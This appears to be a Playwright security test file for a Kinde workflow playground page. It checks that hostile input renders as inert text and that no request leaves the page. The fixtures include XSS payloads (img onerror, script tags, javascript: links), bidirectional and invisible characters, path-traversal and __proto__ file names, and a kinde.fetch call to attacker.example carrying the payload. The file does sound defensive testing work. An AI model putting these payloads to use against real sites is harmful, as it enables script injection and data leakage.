/** The page itself with hostile work in it: everything is shown as text, nothing leaves, and no hang keeps it. */
import type { Page } from "@playwright/test";
import { SETTINGS } from "./cases/hostile-case.ts";
import { expect, test } from "../test.ts";

const MARKUP = "<img src=x onerror=\"globalThis.pwned='img'\"><script>globalThis.pwned='script'</script>";
const LINK = "[x](javascript:globalThis.pwned='link') javascript:globalThis.pwned=1";
const BIDI = "\u202eevil\u2066\u200b\u0007";

/** As the source writes it: what is invisible stands as an escape, so that what is seen comes from the run. */
const written = (value: unknown) =>
  JSON.stringify(value).replace(/[^\x20-\x7e]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, "0")}`);

function projectWith(body: string, files: readonly { name: string; text: string }[] = []) {
  const text = `${SETTINGS}\nconst set = (name, value) => kinde.accessToken.setCustomClaim(name, value);\nexport default async function Workflow(event) {\n${body}\n}\n`;
  return {
    files: [{ name: "Workflow.ts", text }, ...files],
    tokens: {},
    events: {},
    env: [],
    mocks: [],
    localization: [],
  };
}

/** Opens the page with this work kept from an earlier visit. */
async function open(page: Page, project: unknown): Promise<{ errors: string[]; foreign: string[] }> {
  const errors: string[] = [];
  const foreign: string[] = [];
  page.on("pageerror", (error) => errors.push(error.message));
  page.on("dialog", (dialog) => {
    errors.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (!/^(http:\/\/localhost|blob:|data:)/.test(request.url())) foreign.push(request.url());
  });
  await page.addInitScript(
    (kept) => {
      if (localStorage.length === 0) localStorage.setItem("kinde-workflow-playground/1", kept);
    },
    JSON.stringify({ project, view: {}, example: null }),
  );
  await page.goto("./");
  await page.waitForFunction(() => performance.getEntriesByName("first-result").length > 0);
  return { errors, foreign };
}

/** Walks through every tab that there is, so that every view has drawn the result. */
async function lookEverywhere(page: Page): Promise<string> {
  await expect(page.getByRole("tab").first()).toBeVisible();
  let seen = "";
  const count = await page.getByRole("tab").count();
  for (let at = 0; at < count; at++) {
    const tab = page.getByRole("tab").nth(at);
    if (await tab.isVisible()) await tab.click({ timeout: 3_000 }).catch(() => undefined);
    await page.waitForTimeout(60);
    seen += await page.evaluate(() => document.body["innerText"]);
  }
  return seen;
}

const RENDERED = [
  ["a claim’s name", `set(${written(MARKUP)}, 1); set(${written(BIDI)}, 1);`],
  ["a claim’s value", `set("a", ${written([MARKUP, LINK, BIDI])});`],
  ["a name within a claim", `set("a", { [${written(MARKUP)}]: { [${written(BIDI)}]: 1 } });`],
  ["a claim that is prohibited", `set("sub", ${written(MARKUP + BIDI)});`],
  [
    "a log",
    `console.log(${written(MARKUP)}, ${written(BIDI)}, "%c", "color:red;background:url(https://attacker.example)");`,
  ],
  ["a host call", `try { kinde.fetch("https://attacker.example/" + ${written(MARKUP + BIDI)}); } catch {}`],
  ["a denial", `kinde.auth.denyAccess(${written(MARKUP + BIDI)});`],
  ["an error", `const e = new Error(${written(MARKUP + BIDI)}); e.name = ${written(MARKUP)}; throw e;`],
  [
    "a function’s name in a stack",
    `const o = { [${written(MARKUP)}]() { throw new Error("x"); } }; o[${written(MARKUP)}]();`,
  ],
] as const;

/** Each alone takes its time; in the fast run what does not end the run is drawn all at once. */
const ALONE = 7;
const DRAWN: readonly (readonly [string, string])[] =
  process.env["HOSTILE_FULL"] === "1"
    ? RENDERED
    : [
        [
          "every text of a run",
          RENDERED.slice(0, ALONE)
            .map(([, body]) => `{ ${body} }`)
            .join("\n"),
        ],
        [
          "an error and a function’s name in its stack",
          RENDERED.slice(ALONE)
            .map(([, body]) => `const f${body.length} = () => { ${body} };`)
            .join("\n")
            .concat(`\nf${RENDERED[ALONE][1].length}();`),
        ],
      ];

for (const [what, body] of DRAWN) {
  test(`markup and invisible characters in ${what} are shown as text`, async ({ page }) => {
    const { errors, foreign } = await open(page, projectWith(body));
    const seen = await lookEverywhere(page);
    expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
    const made = await page
      .locator("img[onerror], #root script, a[href^='javascript:'], iframe, object, embed")
      .count();
    expect(made).toBe(0);
    expect(seen).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(seen).not.toContain(String.fromCharCode(7));
    expect(await page.title()).not.toMatch(/[<>\u202e\u2066]/);
    expect({ errors, foreign }).toEqual({ errors: [], foreign: [] });
  });
}

test("hostile file names neither break the page nor become paths", async ({ page }) => {
  const files = [
    { name: `${MARKUP}.ts`, text: "" },
    { name: `../../${BIDI}.ts`, text: "" },
    { name: "__proto__", text: "" },
    { name: "x".repeat(5_000), text: "" },
    { name: "\ud800.ts", text: "// half of a character" },
  ];
  const { errors, foreign } = await open(page, projectWith(`set("ok", 1);`, files));
  await lookEverywhere(page);
  const code = page.getByRole("region", { name: "Code" });
  await code.getByRole("tab").last().click();
  await expect(code).toContainText("half of a character");
  expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
  expect(await page.locator("img[onerror]").count()).toBe(0);
  expect({ errors, foreign }).toEqual({ errors: [], foreign: [] });
});

/** What an element says or is called, but for the source itself. */
function drawn(): string {
  const said: string[] = [document.title];
  for (const element of document.querySelectorAll("#root *, body > *")) {
    for (const name of ["title", "aria-label", "placeholder"]) said.push(element.getAttribute(name) ?? "");
    if (element.closest(".view-lines, textarea, .native-edit-context, script, [aria-hidden=true]")) continue;
    for (const child of element.childNodes) if (child.nodeType === Node.TEXT_NODE) said.push(child.nodeValue ?? "");
  }
  return said.join("\n");
}

test("a file name that hides characters is drawn with marks, also where Monaco draws it, and asks nothing", async ({
  page,
}) => {
  const name = `lib${BIDI}\u2800`;
  const project = projectWith("fail();");
  const text = `import { fail } from "./${name}";\n${project.files[0]?.text}`;
  const lib =
    'export const fail = () => { throw new Error("x"); };\n// \u2028\ntype A = { a: string };\nexport const a: A = { a: 1 };';
  const files = [
    { name: "Workflow.ts", text },
    { name: `${name}.ts`, text: lib },
  ];
  const { errors } = await open(page, { ...project, files });
  const isMarked = async () =>
    expect(await page.evaluate(drawn)).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b\u2800]|(?![\n\t])\p{Cc}/u);
  await page.waitForFunction(() => performance.getEntriesByName("editor-ready").length > 0);
  await isMarked();
  await page.getByRole("tab", { name: "Problems" }).click();
  const place = page.getByRole("button", { name: /^libU\+202EevilU\+2066U\+200B␇U\+2800\.ts:4:/ });
  await expect(place.first()).toBeVisible({ timeout: 45_000 });
  await isMarked();
  await place.first().click();
  await page.keyboard.press("F8");
  await expect(page.locator(".peekview-title .filename")).toHaveText("libU+202EevilU+2066U+200B␇U+2800.ts");
  await isMarked();
  expect(errors).toEqual([]);
});

test("a very long value is folded, and the page stays quick", { tag: "@long" }, async ({ page }) => {
  const { errors } = await open(
    page,
    projectWith(`set("long", "x".repeat(300_000)); for (let at = 0; at < 500; at++) set("c" + at, at);`),
  );
  const seen = await lookEverywhere(page);
  expect(seen).not.toContain("x".repeat(20_000));
  expect(errors).toEqual([]);
});

for (const text of [
  '{"project":{"files":7}}',
  "{",
  '{"project":{"files":[null],"tokens":[],"events":{},"env":[],"mocks":[],"localization":[]}}',
  '{"__proto__":{"polluted":1}}',
])
  test(`a storage that holds ${text} leaves a usable page`, async ({ page }) => {
    await page.addInitScript((kept) => localStorage.setItem("kinde-workflow-playground/1", kept), text);
    await page.goto("./");
    await page.waitForFunction(() => performance.getEntriesByName("first-result").length > 0);
    await expect(page.getByRole("list", { name: "Claims" })).toBeVisible();
  });

test("Clear everything forgets work, what was stashed, secrets and the address", async ({ page }) => {
  await page.addInitScript(() => {
    if (sessionStorage.getItem("seeded") !== null) return;
    sessionStorage.setItem("seeded", "1");
    const files = [{ name: "Workflow.ts", text: "// canary-own-work\nexport default async function W() {}" }];
    const project = { files, tokens: {}, events: {}, env: [], mocks: [], localization: [] };
    localStorage.setItem("kinde-workflow-playground/1", JSON.stringify({ project, view: {}, example: null }));
    localStorage.setItem("kinde-workflow-playground/own-work/1", JSON.stringify([{ project, asideAtMs: 1e300 }]));
  });
  await page.goto("./#view=diff");
  await page.getByRole("button", { name: "Clear everything" }).click();
  await page.getByRole("alertdialog").getByRole("button", { name: "Clear everything" }).click();
  await expect(page.getByRole("list", { name: "Claims" })).toBeVisible();
  await page.waitForTimeout(600);
  const left = await page.evaluate(
    () => JSON.stringify({ ...localStorage }) + location.href + document.body.textContent,
  );
  expect(left).not.toContain("canary-own-work");
  expect(await page.evaluate(() => location.hash)).toBe("");
});

test("an endless loop that is opened leaves the page usable, and says what happened", async ({ page }) => {
  await open(page, projectWith("new Array(1e9).join();"));
  await expect(page.getByText(/did not stop|took longer|time limit|execution time exceeded/i).first()).toBeVisible();
});

test("the built page carries the policy, no service worker and no cookie", async ({ page, baseURL }) => {
  const response = await page.goto("./");
  const html = (await response?.text()) ?? "";
  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
  const policy = (await meta.getAttribute("content")) ?? "";
  expect(policy).toContain("default-src 'none'");
  expect(policy).toMatch(/connect-src 'self'(;|$)/);
  expect(policy).toMatch(/object-src 'none'|default-src 'none'/);
  expect(policy).not.toMatch(/'unsafe-eval'|script-src[^;]*'unsafe-inline'|https?:|\*/);
  // Nothing that loads anything stands before the policy.
  expect(html.slice(0, html.indexOf("Content-Security-Policy"))).not.toMatch(/<(script|link|style|img)/);
  expect(
    await page.evaluate(async () => ({
      cookie: document.cookie,
      workers: (await navigator.serviceWorker.getRegistrations()).length,
    })),
  ).toEqual({ cookie: "", workers: 0 });
  expect(baseURL).toBeTruthy();
});
